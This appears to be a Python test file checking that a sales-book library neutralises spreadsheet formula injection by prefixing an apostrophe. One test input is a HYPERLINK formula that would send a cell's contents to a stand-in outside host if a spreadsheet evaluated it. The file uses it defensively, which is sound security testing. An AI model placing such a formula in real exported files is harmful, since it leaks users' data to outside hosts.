"""The apostrophe that keeps a text from being evaluated comes and goes without changing any text."""

import csv
import io
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from salesbook.formula_texts import for_text_cell, is_formula_like, protected, unprotected
from salesbook.sheets.cell_values import read_cell

SIGNS = "=+-@＝＋－＠"

tricky = st.text(st.sampled_from(f"{SIGNS}'  \t\r\n\u3000\u200b\ufeff\x00;,\"1aA甲")) | st.text()


@given(tricky)
@example("'=1+1")
@example("\n=1")
@example("'\n'=1")
def test_a_text_comes_back_as_it_was(text: str) -> None:
    assert unprotected(protected(text)) == text
    assert unprotected(for_text_cell(text)) == text


@given(tricky)
def test_a_protected_text_never_begins_like_a_formula(text: str) -> None:
    found = protected(text)
    assert not is_formula_like(found)
    assert found.lstrip()[:1] not in tuple(SIGNS)


@given(tricky)
def test_wherever_a_program_cuts_columns_no_piece_begins_like_a_formula(text: str) -> None:
    """A comma-separated file that is opened where semicolons divide columns."""
    file = io.StringIO(newline="")
    csv.writer(file).writerow(["C-1", protected(text)])
    pieces = [piece for line in re.split("[\r\n]", file.getvalue()) for piece in line.split(";")]
    assert [piece for piece in pieces if piece.strip()[:1] in tuple(SIGNS)] == []


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ('=HYPERLINK("http://example.invalid/?q="&A1,"open")', '\'=HYPERLINK("http://example.invalid/?q="&A1,"open")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        (" =1+1", "' =1+1"),
        ("＝1+1", "'＝1+1"),
        ("\u3000－甲", "'\u3000－甲"),
        ("\r\n=1+1", "\r\n'=1+1"),
        ("a;=1+1", "a;'=1+1"),
        ("'=1+1", "''=1+1"),
        ("''=1+1", "'''=1+1"),
    ],
)
def test_what_would_be_evaluated_gets_an_apostrophe(text: str, shown: str) -> None:
    assert protected(text) == shown


@pytest.mark.parametrize(
    "text", ["", "Alpha", "A-12", "1-2", "大同＝公司", "'quoted'", "O'Neil - Sons", "a, -b", "5 = 5"]
)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert protected(text) == text == unprotected(text) == for_text_cell(text)


@pytest.mark.parametrize(
    ("pasted", "code"),
    [("'-A12", "-A12"), ("-A12", "-A12"), ("''-A12", "'-A12"), ("' =1+1", "=1+1"), ("'A12", "'A12"), ("'＠甲", "@甲")],
)
def test_the_apostrophe_of_an_export_is_no_part_of_a_code_that_is_pasted(pasted: str, code: str) -> None:
    assert read_cell(pasted, "General", "code").value == code


def test_a_number_stays_a_number_whatever_its_sign() -> None:
    assert str(read_cell("-1485.85", "General", "money").value) == "-1485.85"
